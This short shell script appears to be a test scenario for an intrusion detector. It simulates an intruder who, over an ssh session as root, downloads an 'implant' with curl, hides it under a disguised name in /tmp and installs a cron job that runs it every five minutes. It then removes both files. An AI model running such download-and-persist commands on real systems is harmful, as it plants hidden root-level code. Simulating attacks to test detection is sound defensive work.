#!/bin/sh
# malicious: over the same ssh terminal lineage, an intruder downloads a payload and installs a cron job that runs it
. "$(dirname "$0")/../../lib.sh"
ssh_tty root <<'CMDS'
curl -s -o /tmp/.X11-unix-q http://127.0.0.1:8080/implant
chmod +x /tmp/.X11-unix-q
echo '*/5 * * * * root /tmp/.X11-unix-q' > /etc/cron.d/quell-jlive-sysstat
exit
CMDS
rm -f /etc/cron.d/quell-jlive-sysstat /tmp/.X11-unix-q
